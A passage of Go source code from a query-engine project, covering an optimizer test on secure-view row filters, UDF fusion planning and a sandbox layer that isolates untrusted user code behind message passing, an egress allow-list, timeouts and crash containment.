					return true
				}
			}
		}
		return false
	}) {
		t.Fatalf("user predicate crossed the secure-view barrier:\n%s", plan.Explain(out))
	}
}

func TestPruneKeepsRowFilterColumns(t *testing.T) {
	// The user projects only amount; region is referenced solely by the
	// policy's row filter. Pruning must keep region available to the filter.
	sv := &plan.SecureView{
		Name:        "main.default.sales",
		PolicyKinds: []string{"row_filter"},
		Child: &plan.Filter{
			Cond:  eqStr(ref(3, "region", types.KindString), "US"),
			Child: salesScan(),
		},
	}
	q := &plan.Project{
		Exprs:     []plan.Expr{ref(0, "amount", types.KindFloat64)},
		Child:     sv,
		OutSchema: types.NewSchema(types.Field{Name: "amount", Kind: types.KindFloat64}),
	}
	out := Optimize(q, DefaultOptions())

	var sc *plan.Scan
	plan.Walk(out, func(n plan.Node) bool {
		if s, isScan := n.(*plan.Scan); isScan {
			sc = s
		}
		return true
	})
	if sc == nil {
		t.Fatalf("no scan:\n%s", plan.Explain(out))
	}
	// Every reference in the scan's pushed filters (where the policy
	// predicate now lives) must bind to a surviving column of that name.
	schema := sc.Schema()
	hasRegionPred := false
	for _, pf := range sc.PushedFilters {
		plan.WalkExpr(pf, func(e plan.Expr) bool {
			b, isRef := e.(*plan.BoundRef)
			if !isRef {
				return true
			}
			if b.Name == "region" {
				hasRegionPred = true
			}
			if b.Index < 0 || b.Index >= schema.Len() || schema.Fields[b.Index].Name != b.Name {
				t.Errorf("pushed filter reference %s misbound after prune (schema %v)", b.String(), schema.Fields)
			}
			return true
		})
	}
	if !hasRegionPred {
		t.Fatalf("policy predicate on region vanished during pruning:\n%s", plan.Explain(out))
	}
}
