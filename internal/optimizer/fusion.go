package optimizer

import (
	"fmt"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// ExtractedCall is one UDF invocation lifted out of a projection: the call
// (with arguments rewritten over the current batch layout) and the batch
// column its result will occupy.
type ExtractedCall struct {
	Call     *plan.UDFCall
	OutIndex int
}

// UDFGroup is a set of UDF calls that execute in one sandbox crossing. All
// calls in a group share one trust domain and one resource class — trust
// domains and resource requirements are both fusion barriers.
type UDFGroup struct {
	TrustDomain string
	// Resources is the specialized pool the group must run in ("" =
	// standard executors).
	Resources string
	Calls     []ExtractedCall
}

// UDFPlan is the result of lifting UDF calls out of projection expressions.
type UDFPlan struct {
	// Exprs are the projection expressions with every UDFCall replaced by a
	// BoundRef to an appended result column.
	Exprs []plan.Expr
	// Waves are executed in order; within a wave, each group is one sandbox
	// crossing. Later waves may consume earlier waves' outputs (nested UDFs).
	Waves [][]UDFGroup
	// Width is the final batch width after all result columns are appended.
	Width int
	// TotalCalls counts extracted UDF invocations.
	TotalCalls int
}

// HasUDFs reports whether any call was extracted.
func (p *UDFPlan) HasUDFs() bool { return p.TotalCalls > 0 }

// PlanUDFs lifts UDF calls out of projection expressions. With fuse=true,
// calls of the same trust domain within a wave share a sandbox crossing;
// with fuse=false every call crosses separately (the ablation baseline).
func PlanUDFs(exprs []plan.Expr, inputWidth int, fuse bool) (*UDFPlan, error) {
	out := &UDFPlan{Exprs: append([]plan.Expr{}, exprs...), Width: inputWidth}
	const maxWaves = 64
	for wave := 0; ; wave++ {
		if wave >= maxWaves {
			return nil, fmt.Errorf("optimizer: UDF nesting exceeds %d levels", maxWaves)
		}
		var extracted []ExtractedCall
		for i, e := range out.Exprs {
			out.Exprs[i] = extractWave(e, out.Width, &extracted)
		}
		if len(extracted) == 0 {
			return out, nil
		}
		out.Width += len(extracted)
		out.TotalCalls += len(extracted)
		out.Waves = append(out.Waves, groupCalls(extracted, fuse))
	}
}

// extractWave replaces innermost UDF calls (those whose arguments contain no
// other UDF call) with BoundRefs to appended columns. Outer calls stay in
// place for a later wave, so a call's arguments only ever reference columns
// that already exist when its wave executes.
func extractWave(e plan.Expr, width int, extracted *[]ExtractedCall) plan.Expr {
	if call, ok := e.(*plan.UDFCall); ok {
		hasInner := false
		for _, a := range call.Args {
			if containsUDF(a) {
				hasInner = true
				break
			}
		}
		if !hasInner {
			idx := width + len(*extracted)
			*extracted = append(*extracted, ExtractedCall{Call: call, OutIndex: idx})
			return &plan.BoundRef{Index: idx, Name: call.Name, Kind: call.ResultKind}
		}
		newArgs := make([]plan.Expr, len(call.Args))
		for i, a := range call.Args {
			newArgs[i] = extractWave(a, width, extracted)
		}
		cp := *call
		cp.Args = newArgs
		return &cp
	}
	children := e.ChildExprs()
	if len(children) == 0 {
		return e
	}
	newChildren := make([]plan.Expr, len(children))
	changed := false
	for i, c := range children {
		newChildren[i] = extractWave(c, width, extracted)
		if newChildren[i] != c {
			changed = true
		}
	}
	if !changed {
		return e
	}
	return e.WithChildExprs(newChildren)
}

// groupCalls partitions extracted calls into sandbox crossings. Fusion never
// crosses trust-domain boundaries: a group holds one owner's code only.
func groupCalls(calls []ExtractedCall, fuse bool) []UDFGroup {
	if !fuse {
		groups := make([]UDFGroup, len(calls))
		for i, c := range calls {
			groups[i] = UDFGroup{TrustDomain: c.Call.Owner, Resources: c.Call.Resources, Calls: []ExtractedCall{c}}
		}
		return groups
	}
	var groups []UDFGroup
	byKey := map[string]int{}
	for _, c := range calls {
		key := c.Call.Owner + "\x00" + c.Call.Resources
		gi, ok := byKey[key]
		if !ok {
			gi = len(groups)
			byKey[key] = gi
			groups = append(groups, UDFGroup{TrustDomain: c.Call.Owner, Resources: c.Call.Resources})
		}
		groups[gi].Calls = append(groups[gi].Calls, c)
	}
	return groups
}

// ResultField returns the schema field an extracted call's output column
// carries.
func (c ExtractedCall) ResultField() types.Field {
	return types.Field{Name: c.Call.Name, Kind: c.Call.ResultKind, Nullable: true}
}
