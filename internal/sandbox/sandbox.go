// Package sandbox implements the user-code isolation layer (paper §3.3). A
// Sandbox is an isolated execution universe for untrusted PyLite code: it
// runs in its own goroutine and is reachable only through a serialized
// message channel — the analog of the container boundary in the paper. The
// engine sends encoded argument batches; the sandbox decodes, interprets,
// and returns encoded results. Nothing else crosses: no engine pointers, no
// catalog, no credentials, no filesystem.
//
// Isolation properties modeled faithfully:
//
//   - Message-passing only: every crossing pays real encode/decode cost
//     (the continuous overhead measured in Table 2).
//   - Cold start: creating a sandbox pays a configurable provisioning delay
//     (the ~2 s first-UDF latency in §5), amortized by warm reuse.
//   - Trust domains: one sandbox executes code of exactly one owner; the
//     dispatcher never co-locates code from different owners.
//   - Egress control: outbound HTTP is gated by an allow-list, the analog of
//     the paper's dynamically controlled network namespace rules.
package sandbox

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/types"
	"lakeguard/internal/udf"
)

// EgressPolicy controls outbound network access from user code.
type EgressPolicy struct {
	// AllowedHosts lists hostnames user code may reach ("*" allows all).
	AllowedHosts []string
	// Resolver is the simulated external network: it receives the URL and
	// returns the response body. A nil Resolver means the network does not
	// exist (all egress fails even if allowed).
	Resolver func(url string) (string, error)
}

// allows reports whether the policy permits the host.
func (p EgressPolicy) allows(host string) bool {
	for _, h := range p.AllowedHosts {
		if h == "*" || strings.EqualFold(h, host) {
			return true
		}
	}
	return false
}

// Config parametrizes sandbox creation.
type Config struct {
	// ColdStart is the simulated provisioning delay paid once per sandbox.
	ColdStart time.Duration
	// Fuel bounds interpreter steps per UDF invocation (0 = default).
	Fuel int
	// Egress is the network policy for code in this sandbox.
	Egress EgressPolicy
}

// UDFSpec describes one user function within a request. ArgCols index into
// the request batch's columns.
type UDFSpec struct {
	Name       string     `json:"name"`
	Body       string     `json:"body"`
	ArgNames   []string   `json:"argNames"`
	ArgCols    []int      `json:"argCols"`
	ResultKind types.Kind `json:"resultKind"`
}

// Request is one crossing into the sandbox: a set of (fused) UDFs and the
// argument batch they read from.
type Request struct {
	Specs []UDFSpec
	Args  *types.Batch
}

// ErrSandboxClosed is returned after Close.
var ErrSandboxClosed = errors.New("sandbox: closed")

// Sandbox is one isolated user-code environment.
type Sandbox struct {
	// ID identifies the sandbox for diagnostics.
	ID string
	// TrustDomain is the owner identity whose code this sandbox runs.
	TrustDomain string
	// Resources names the specialized pool this sandbox lives in ("" =
	// standard executors).
	Resources string

	reqCh  chan []byte
	respCh chan sandboxResp
	done   chan struct{}

	closeOnce sync.Once

	// crossings counts boundary round trips (bench instrumentation).
	crossings atomic.Int64
	// rowsProcessed counts rows × UDFs evaluated.
	rowsProcessed atomic.Int64

	execMu sync.Mutex
}

type sandboxResp struct {
	data []byte
	err  string
}

var sandboxSeq atomic.Int64

// New provisions a sandbox for one trust domain, paying the cold-start
// delay. The returned sandbox is warm and reusable until Close.
func New(trustDomain string, cfg Config) *Sandbox {
	if cfg.ColdStart > 0 {
		time.Sleep(cfg.ColdStart)
	}
	s := &Sandbox{
		ID:          fmt.Sprintf("sbx-%d", sandboxSeq.Add(1)),
		TrustDomain: trustDomain,
		reqCh:       make(chan []byte),
		respCh:      make(chan sandboxResp),
		done:        make(chan struct{}),
	}
	fuel := cfg.Fuel
	if fuel <= 0 {
		fuel = udf.DefaultFuel
	}
	go runInterpreterLoop(s.reqCh, s.respCh, s.done, fuel, cfg.Egress)
	return s
}

// Close tears the sandbox down.
func (s *Sandbox) Close() {
	s.closeOnce.Do(func() { close(s.done) })
}

// Crossings reports how many boundary round trips this sandbox served.
func (s *Sandbox) Crossings() int64 { return s.crossings.Load() }

// RowsProcessed reports rows × UDF evaluations served.
func (s *Sandbox) RowsProcessed() int64 { return s.rowsProcessed.Load() }

// Execute performs one crossing: the request is serialized, handed to the
// isolated interpreter loop, and the serialized results are decoded. The
// result batch has one column per spec, in order.
func (s *Sandbox) Execute(req *Request) (*types.Batch, error) {
	for _, spec := range req.Specs {
		if len(spec.ArgCols) != len(spec.ArgNames) {
			return nil, fmt.Errorf("sandbox: spec %q has %d arg columns for %d parameters",
				spec.Name, len(spec.ArgCols), len(spec.ArgNames))
		}
		for _, c := range spec.ArgCols {
			if c < 0 || c >= req.Args.NumCols() {
				return nil, fmt.Errorf("sandbox: spec %q references column %d outside batch", spec.Name, c)
			}
		}
	}
	payload, err := encodeRequest(req)
	if err != nil {
		return nil, err
	}

	// One logical IPC channel: requests are serialized (a container boundary
	// has one pipe), concurrent executors queue here.
	s.execMu.Lock()
	defer s.execMu.Unlock()

	select {
	case s.reqCh <- payload:
	case <-s.done:
		return nil, ErrSandboxClosed
	}
	var resp sandboxResp
	select {
	case resp = <-s.respCh:
	case <-s.done:
		return nil, ErrSandboxClosed
	}
	s.crossings.Add(1)
	s.rowsProcessed.Add(int64(req.Args.NumRows() * len(req.Specs)))
	if resp.err != "" {
		return nil, fmt.Errorf("sandbox: user code failed: %s", resp.err)
	}
	return arrowipc.DecodeBatch(resp.data)
}

// --- wire encoding of requests: JSON header frame + arrowipc payload ---

func encodeRequest(req *Request) ([]byte, error) {
	header, err := json.Marshal(req.Specs)
	if err != nil {
		return nil, err
	}
	body, err := arrowipc.EncodeBatch(req.Args)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 0, 4+len(header)+len(body))
	out = append(out, byte(len(header)), byte(len(header)>>8), byte(len(header)>>16), byte(len(header)>>24))
	out = append(out, header...)
	out = append(out, body...)
	return out, nil
}

func decodeRequest(data []byte) ([]UDFSpec, *types.Batch, error) {
	if len(data) < 4 {
		return nil, nil, errors.New("sandbox: truncated request")
	}
	hlen := int(data[0]) | int(data[1])<<8 | int(data[2])<<16 | int(data[3])<<24
	if hlen < 0 || 4+hlen > len(data) {
		return nil, nil, errors.New("sandbox: corrupt request header")
	}
	var specs []UDFSpec
	if err := json.Unmarshal(data[4:4+hlen], &specs); err != nil {
		return nil, nil, err
	}
	batch, err := arrowipc.DecodeBatch(data[4+hlen:])
	if err != nil {
		return nil, nil, err
	}
	return specs, batch, nil
}

// runInterpreterLoop is the code that lives "inside" the sandbox. It
// deliberately closes over nothing but its channels, fuel budget, and egress
// policy — the entire authority of user code.
func runInterpreterLoop(reqCh <-chan []byte, respCh chan<- sandboxResp, done <-chan struct{}, fuel int, egress EgressPolicy) {
	caps := &udf.Capabilities{}
	if egress.Resolver != nil && len(egress.AllowedHosts) > 0 {
		resolver := egress.Resolver
		policy := egress
		caps.HTTPGet = func(rawURL string) (string, error) {
			u, err := url.Parse(rawURL)
			if err != nil {
				return "", fmt.Errorf("invalid url %q", rawURL)
			}
			if !policy.allows(u.Hostname()) {
				return "", fmt.Errorf("egress to %q denied by sandbox network policy", u.Hostname())
			}
			return resolver(rawURL)
		}
	}
	programs := map[string]*udf.Program{}
	for {
		var payload []byte
		select {
		case payload = <-reqCh:
		case <-done:
			return
		}
		result, errStr := serveRequest(payload, programs, caps, fuel)
		select {
		case respCh <- sandboxResp{data: result, err: errStr}:
		case <-done:
			return
		}
	}
}

func serveRequest(payload []byte, programs map[string]*udf.Program, caps *udf.Capabilities, fuel int) ([]byte, string) {
	specs, args, err := decodeRequest(payload)
	if err != nil {
		return nil, err.Error()
	}
	outSchema := &types.Schema{Fields: make([]types.Field, len(specs))}
	builders := make([]*types.Builder, len(specs))
	compiled := make([]*udf.Program, len(specs))
	for i, spec := range specs {
		outSchema.Fields[i] = types.Field{Name: spec.Name, Kind: spec.ResultKind, Nullable: true}
		builders[i] = types.NewBuilder(spec.ResultKind, args.NumRows())
		p, ok := programs[spec.Body]
		if !ok {
			var cerr error
			p, cerr = udf.Compile(spec.Body)
			if cerr != nil {
				return nil, cerr.Error()
			}
			programs[spec.Body] = p
		}
		compiled[i] = p
	}
	n := args.NumRows()
	argEnv := make(map[string]types.Value, 4)
	for row := 0; row < n; row++ {
		for i, spec := range specs {
			clear(argEnv)
			for ai, col := range spec.ArgCols {
				argEnv[spec.ArgNames[ai]] = args.Cols[col].Value(row)
			}
			v, err := compiled[i].CallFuel(argEnv, caps, fuel)
			if err != nil {
				return nil, fmt.Sprintf("udf %s at row %d: %v", spec.Name, row, err)
			}
			if v.Null {
				builders[i].AppendNull()
				continue
			}
			cast, err := v.Cast(spec.ResultKind)
			if err != nil {
				return nil, fmt.Sprintf("udf %s at row %d: result %v not a %s", spec.Name, row, v, spec.ResultKind)
			}
			builders[i].Append(cast)
		}
	}
	cols := make([]*types.Column, len(builders))
	for i, b := range builders {
		cols[i] = b.Build()
	}
	out, err := arrowipc.EncodeBatch(types.MustBatch(outSchema, cols))
	if err != nil {
		return nil, err.Error()
	}
	return out, ""
}
