// Package sandbox implements the user-code isolation layer (paper §3.3). A
// Sandbox is an isolated execution universe for untrusted PyLite code: it
// runs in its own goroutine and is reachable only through a serialized
// message channel — the analog of the container boundary in the paper. The
// engine sends encoded argument batches; the sandbox decodes, interprets,
// and returns encoded results. Nothing else crosses: no engine pointers, no
// catalog, no credentials, no filesystem.
//
// Isolation properties modeled faithfully:
//
//   - Message-passing only: every crossing pays real encode/decode cost
//     (the continuous overhead measured in Table 2).
//   - Cold start: creating a sandbox pays a configurable provisioning delay
//     (the ~2 s first-UDF latency in §5), amortized by warm reuse.
//   - Trust domains: one sandbox executes code of exactly one owner; the
//     dispatcher never co-locates code from different owners.
//   - Egress control: outbound HTTP is gated by an allow-list, the analog of
//     the paper's dynamically controlled network namespace rules.
//   - Failure containment: a crash or hang inside the interpreter burns this
//     sandbox only. The crossing returns a structured SandboxCrashError, the
//     sandbox is poisoned (never reused), and the supervised dispatcher
//     quarantines it — user code must never wedge or kill the engine.
package sandbox

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/faults"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
	"lakeguard/internal/udf"
)

// EgressPolicy controls outbound network access from user code.
type EgressPolicy struct {
	// AllowedHosts lists hostnames user code may reach ("*" allows all).
	AllowedHosts []string
	// Resolver is the simulated external network: it receives the URL and
	// returns the response body. A nil Resolver means the network does not
	// exist (all egress fails even if allowed).
	Resolver func(url string) (string, error)
}

// allows reports whether the policy permits the host.
func (p EgressPolicy) allows(host string) bool {
	for _, h := range p.AllowedHosts {
		if h == "*" || strings.EqualFold(h, host) {
			return true
		}
	}
	return false
}

// Config parametrizes sandbox creation.
type Config struct {
	// ColdStart is the simulated provisioning delay paid once per sandbox.
	ColdStart time.Duration
	// Fuel bounds interpreter steps per UDF invocation (0 = default).
	Fuel int
	// Egress is the network policy for code in this sandbox.
	Egress EgressPolicy
	// ExecTimeout bounds the wall-clock time of one crossing (0 = none).
	// A request that exceeds it is treated as hung user code: the sandbox
	// is killed and the crossing fails with a SandboxCrashError.
	ExecTimeout time.Duration
	// Faults is the chaos-test fault injector (nil in production).
	Faults *faults.Injector
	// RequireVerifiedPlans refuses any crossing whose request does not carry
	// the sentinel fingerprint of a verified plan. The server plane sets it
	// so that even a compromised engine path cannot feed governed argument
	// batches to user code without having passed SENTINEL_VERIFY; direct
	// engine tests and benches leave it false.
	RequireVerifiedPlans bool
}

// UDFSpec describes one user function within a request. ArgCols index into
// the request batch's columns.
type UDFSpec struct {
	Name       string     `json:"name"`
	Body       string     `json:"body"`
	ArgNames   []string   `json:"argNames"`
	ArgCols    []int      `json:"argCols"`
	ResultKind types.Kind `json:"resultKind"`
}

// Request is one crossing into the sandbox: a set of (fused) UDFs and the
// argument batch they read from.
type Request struct {
	Specs []UDFSpec
	Args  *types.Batch
	// PlanFingerprint is the sentinel fingerprint of the sealed, verified
	// plan this crossing serves ("" when the caller executed an unverified
	// plan, e.g. a direct engine test). Sandboxes created with
	// RequireVerifiedPlans refuse crossings without it.
	PlanFingerprint string
}

// ErrUnverifiedPlan is returned when a sandbox that requires verified plans
// receives a crossing with no plan fingerprint: the argument batch did not
// come from a plan that passed SENTINEL_VERIFY.
var ErrUnverifiedPlan = errors.New("sandbox: crossing refused: request carries no verified-plan fingerprint")

// ErrSandboxClosed is returned after Close.
var ErrSandboxClosed = errors.New("sandbox: closed")

// ErrSandboxPoisoned is returned when a crossing is attempted on a sandbox
// that already crashed or timed out; poisoned sandboxes are never reused.
var ErrSandboxPoisoned = errors.New("sandbox: poisoned")

// SandboxCrashError reports that user code destroyed its sandbox — a crash
// inside the interpreter, a hang exceeding ExecTimeout, or an abandoned
// in-flight crossing. The failure burned exactly one sandbox; the engine and
// other trust domains are unaffected (the paper's containment guarantee).
type SandboxCrashError struct {
	SandboxID   string
	TrustDomain string
	Reason      string
	// Timeout distinguishes a wall-clock kill from an in-sandbox crash.
	Timeout bool
	// FaultSite names the injection site when the crash was injected by the
	// chaos harness ("" for organic crashes); telemetry spans record it.
	FaultSite string
}

// Error implements error.
func (e *SandboxCrashError) Error() string {
	mode := "crashed"
	if e.Timeout {
		mode = "timed out"
	}
	return fmt.Sprintf("sandbox: %s (domain %q) %s: %s", e.SandboxID, e.TrustDomain, mode, e.Reason)
}

// Sandbox is one isolated user-code environment.
type Sandbox struct {
	// ID identifies the sandbox for diagnostics.
	ID string
	// TrustDomain is the owner identity whose code this sandbox runs.
	TrustDomain string
	// Resources names the specialized pool this sandbox lives in ("" =
	// standard executors).
	Resources string

	reqCh  chan []byte
	respCh chan sandboxResp
	done   chan struct{}

	closeOnce sync.Once

	// poisoned marks a sandbox whose interpreter crashed, hung, or whose IPC
	// pipe was abandoned mid-request; it must never serve again.
	poisoned     atomic.Bool
	poisonMu     sync.Mutex
	poisonReason string

	execTimeout time.Duration

	// requireVerified refuses crossings without a verified-plan fingerprint.
	requireVerified bool

	// crossings counts boundary round trips (bench instrumentation).
	crossings atomic.Int64
	// rowsProcessed counts rows × UDFs evaluated.
	rowsProcessed atomic.Int64

	// lastTrace remembers the most recent traced crossing so quarantine-time
	// audit events (which have no request context) still join the trace.
	lastTraceMu sync.Mutex
	lastTraceID string

	execMu sync.Mutex
}

type sandboxResp struct {
	data []byte
	err  string
	// crashed marks a response produced by panic recovery: the interpreter
	// goroutine is dead and the sandbox must be destroyed.
	crashed bool
	// faultSite is the injection site when the failure was injected ("" for
	// organic failures).
	faultSite string
}

var sandboxSeq atomic.Int64

// New provisions a sandbox for one trust domain, paying the cold-start
// delay. The returned sandbox is warm and reusable until Close.
func New(trustDomain string, cfg Config) *Sandbox {
	sb, _ := NewContext(context.Background(), trustDomain, cfg)
	return sb
}

// NewContext is New with cancellation: a caller whose query was abandoned
// does not pay the remaining cold start for a sandbox nobody will use.
func NewContext(ctx context.Context, trustDomain string, cfg Config) (*Sandbox, error) {
	_, sp := telemetry.StartSpan(ctx, "sandbox.coldstart")
	sp.SetAttr("domain", trustDomain)
	sb, err := newContext(ctx, trustDomain, cfg)
	if err != nil {
		if site := faults.SiteOf(err); site != "" {
			sp.SetAttr("fault.site", site)
		}
	} else {
		sp.SetAttr("sandbox", sb.ID)
	}
	sp.EndErr(err)
	return sb, err
}

func newContext(ctx context.Context, trustDomain string, cfg Config) (*Sandbox, error) {
	if err := cfg.Faults.CheckContext(ctx, faults.SiteSandboxColdStart); err != nil {
		return nil, fmt.Errorf("sandbox: provisioning for %q: %w", trustDomain, err)
	}
	if cfg.ColdStart > 0 {
		t := time.NewTimer(cfg.ColdStart)
		defer t.Stop()
		select {
		case <-t.C:
		case <-ctx.Done():
			return nil, fmt.Errorf("sandbox: cold start for %q abandoned: %w", trustDomain, ctx.Err())
		}
	}
	s := &Sandbox{
		ID:              fmt.Sprintf("sbx-%d", sandboxSeq.Add(1)),
		TrustDomain:     trustDomain,
		reqCh:           make(chan []byte),
		respCh:          make(chan sandboxResp),
		done:            make(chan struct{}),
		execTimeout:     cfg.ExecTimeout,
		requireVerified: cfg.RequireVerifiedPlans,
	}
	fuel := cfg.Fuel
	if fuel <= 0 {
		fuel = udf.DefaultFuel
	}
	go runInterpreterLoop(s.reqCh, s.respCh, s.done, fuel, cfg.Egress, cfg.Faults)
	return s, nil
}

// Close tears the sandbox down.
func (s *Sandbox) Close() {
	s.closeOnce.Do(func() { close(s.done) })
}

// Poisoned reports whether the sandbox crashed or timed out and must not be
// reused.
func (s *Sandbox) Poisoned() bool { return s.poisoned.Load() }

// PoisonReason returns why the sandbox was poisoned ("" if healthy).
func (s *Sandbox) PoisonReason() string {
	s.poisonMu.Lock()
	defer s.poisonMu.Unlock()
	return s.poisonReason
}

// Crossings reports how many boundary round trips this sandbox served.
func (s *Sandbox) Crossings() int64 { return s.crossings.Load() }

// LastTraceID returns the trace ID of the most recent traced crossing (""
// if the sandbox never served a traced request).
func (s *Sandbox) LastTraceID() string {
	s.lastTraceMu.Lock()
	defer s.lastTraceMu.Unlock()
	return s.lastTraceID
}

func (s *Sandbox) setLastTrace(id string) {
	s.lastTraceMu.Lock()
	s.lastTraceID = id
	s.lastTraceMu.Unlock()
}

// RowsProcessed reports rows × UDF evaluations served.
func (s *Sandbox) RowsProcessed() int64 { return s.rowsProcessed.Load() }

// kill poisons the sandbox, tears it down, and returns the structured crash
// error the caller surfaces. faultSite attributes an injected failure ("").
func (s *Sandbox) kill(reason string, timeout bool, faultSite string) error {
	s.poisonMu.Lock()
	if s.poisonReason == "" {
		s.poisonReason = reason
	}
	s.poisonMu.Unlock()
	s.poisoned.Store(true)
	s.Close()
	return &SandboxCrashError{SandboxID: s.ID, TrustDomain: s.TrustDomain, Reason: reason, Timeout: timeout, FaultSite: faultSite}
}

// Execute performs one crossing: the request is serialized, handed to the
// isolated interpreter loop, and the serialized results are decoded. The
// result batch has one column per spec, in order.
//
// Supervision semantics: a context cancelled before the request crosses the
// boundary returns ctx.Err() and leaves the sandbox healthy. Once the
// request is in flight, abandoning it (cancellation or ExecTimeout) makes
// the single IPC pipe unsynchronizable, so the sandbox is destroyed — the
// moral equivalent of killing a container whose workload hung.
func (s *Sandbox) Execute(ctx context.Context, req *Request) (*types.Batch, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	_, sp := telemetry.StartSpan(ctx, "sandbox.execute")
	sp.SetAttr("sandbox", s.ID)
	sp.SetAttr("domain", s.TrustDomain)
	if tid := sp.TraceID(); tid != "" {
		s.setLastTrace(tid)
	}
	sp.Count("rows", int64(req.Args.NumRows()))
	b, err := s.execute(ctx, req)
	if err != nil {
		var crash *SandboxCrashError
		if errors.As(err, &crash) {
			sp.SetAttr("crash", crash.Reason)
			if crash.FaultSite != "" {
				sp.SetAttr("fault.site", crash.FaultSite)
			}
		} else if site := faults.SiteOf(err); site != "" {
			sp.SetAttr("fault.site", site)
		}
	}
	sp.EndErr(err)
	return b, err
}

func (s *Sandbox) execute(ctx context.Context, req *Request) (*types.Batch, error) {
	if s.requireVerified && req.PlanFingerprint == "" {
		return nil, fmt.Errorf("%w: sandbox %s (domain %q)", ErrUnverifiedPlan, s.ID, s.TrustDomain)
	}
	for _, spec := range req.Specs {
		if len(spec.ArgCols) != len(spec.ArgNames) {
			return nil, fmt.Errorf("sandbox: spec %q has %d arg columns for %d parameters",
				spec.Name, len(spec.ArgCols), len(spec.ArgNames))
		}
		for _, c := range spec.ArgCols {
			if c < 0 || c >= req.Args.NumCols() {
				return nil, fmt.Errorf("sandbox: spec %q references column %d outside batch", spec.Name, c)
			}
		}
	}
	payload, err := encodeRequest(req)
	if err != nil {
		return nil, err
	}

	// One logical IPC channel: requests are serialized (a container boundary
	// has one pipe), concurrent executors queue here.
	s.execMu.Lock()
	defer s.execMu.Unlock()

	if s.poisoned.Load() {
		return nil, fmt.Errorf("%w: %s (%s)", ErrSandboxPoisoned, s.ID, s.PoisonReason())
	}

	var timeoutC <-chan time.Time
	if s.execTimeout > 0 {
		timer := time.NewTimer(s.execTimeout)
		defer timer.Stop()
		timeoutC = timer.C
	}

	select {
	case s.reqCh <- payload:
	case <-s.done:
		return nil, ErrSandboxClosed
	case <-ctx.Done():
		// Nothing crossed the boundary yet; the sandbox stays healthy.
		return nil, ctx.Err()
	case <-timeoutC:
		return nil, s.kill(fmt.Sprintf("request not accepted within ExecTimeout %v", s.execTimeout), true, "")
	}
	var resp sandboxResp
	select {
	case resp = <-s.respCh:
	case <-s.done:
		return nil, ErrSandboxClosed
	case <-ctx.Done():
		s.kill("in-flight request abandoned: "+ctx.Err().Error(), false, "")
		return nil, ctx.Err()
	case <-timeoutC:
		return nil, s.kill(fmt.Sprintf("user code exceeded ExecTimeout %v", s.execTimeout), true, "")
	}
	s.crossings.Add(1)
	s.rowsProcessed.Add(int64(req.Args.NumRows() * len(req.Specs)))
	if resp.crashed {
		return nil, s.kill("interpreter crashed: "+resp.err, false, resp.faultSite)
	}
	if resp.err != "" {
		return nil, fmt.Errorf("sandbox: user code failed: %s", resp.err)
	}
	return arrowipc.DecodeBatch(resp.data)
}

// --- wire encoding of requests: JSON header frame + arrowipc payload ---

// maxRequestHeader caps the spec-header frame; anything larger is a corrupt
// or hostile frame, not a legitimate fused-UDF set.
const maxRequestHeader = 1 << 20

func encodeRequest(req *Request) ([]byte, error) {
	header, err := json.Marshal(req.Specs)
	if err != nil {
		return nil, err
	}
	if len(header) > maxRequestHeader {
		return nil, fmt.Errorf("sandbox: request header %d bytes exceeds limit %d", len(header), maxRequestHeader)
	}
	body, err := arrowipc.EncodeBatch(req.Args)
	if err != nil {
		return nil, err
	}
	out := make([]byte, 0, 4+len(header)+len(body))
	out = append(out, byte(len(header)), byte(len(header)>>8), byte(len(header)>>16), byte(len(header)>>24))
	out = append(out, header...)
	out = append(out, body...)
	return out, nil
}

func decodeRequest(data []byte) ([]UDFSpec, *types.Batch, error) {
	if len(data) < 4 {
		return nil, nil, errors.New("sandbox: truncated request")
	}
	hlen := int(data[0]) | int(data[1])<<8 | int(data[2])<<16 | int(data[3])<<24
	if hlen < 0 || hlen > maxRequestHeader || 4+hlen > len(data) {
		return nil, nil, errors.New("sandbox: corrupt request header")
	}
	var specs []UDFSpec
	if err := json.Unmarshal(data[4:4+hlen], &specs); err != nil {
		return nil, nil, err
	}
	batch, err := arrowipc.DecodeBatch(data[4+hlen:])
	if err != nil {
		return nil, nil, err
	}
	return specs, batch, nil
}

// runInterpreterLoop is the code that lives "inside" the sandbox. It
// deliberately closes over nothing but its channels, fuel budget, egress
// policy, and fault injector — the entire authority of user code.
func runInterpreterLoop(reqCh <-chan []byte, respCh chan<- sandboxResp, done <-chan struct{}, fuel int, egress EgressPolicy, inj *faults.Injector) {
	caps := &udf.Capabilities{}
	if egress.Resolver != nil && len(egress.AllowedHosts) > 0 {
		resolver := egress.Resolver
		policy := egress
		caps.HTTPGet = func(rawURL string) (string, error) {
			u, err := url.Parse(rawURL)
			if err != nil {
				return "", fmt.Errorf("invalid url %q", rawURL)
			}
			if !policy.allows(u.Hostname()) {
				return "", fmt.Errorf("egress to %q denied by sandbox network policy", u.Hostname())
			}
			return resolver(rawURL)
		}
	}
	programs := map[string]*udf.Program{}
	for {
		var payload []byte
		select {
		case payload = <-reqCh:
		case <-done:
			return
		}
		resp := interpretOne(payload, programs, caps, fuel, inj, done)
		select {
		case respCh <- resp:
		case <-done:
			return
		}
		if resp.crashed {
			// The crash killed this universe; no further requests are served.
			return
		}
	}
}

// interpretOne serves one request, converting interpreter panics — real or
// injected — into a structured crash response instead of taking down the
// process: the supervision analog of a container dying alone.
func interpretOne(payload []byte, programs map[string]*udf.Program, caps *udf.Capabilities, fuel int, inj *faults.Injector, done <-chan struct{}) (resp sandboxResp) {
	defer func() {
		if r := recover(); r != nil {
			resp = sandboxResp{err: fmt.Sprint(r), crashed: true}
			// An injected crash panics with the structured fault error;
			// recover the site so the crossing span can attribute it.
			if e, ok := r.(error); ok {
				resp.faultSite = faults.SiteOf(e)
			}
		}
	}()
	if f, ok := inj.Eval(faults.SiteSandboxInterpret); ok {
		switch f.Kind {
		case faults.KindCrash:
			panic(f.Err)
		case faults.KindHang:
			// A wedge the fuel meter cannot catch: block until teardown.
			<-done
			return sandboxResp{err: "injected hang interrupted by teardown", crashed: true}
		case faults.KindSleep:
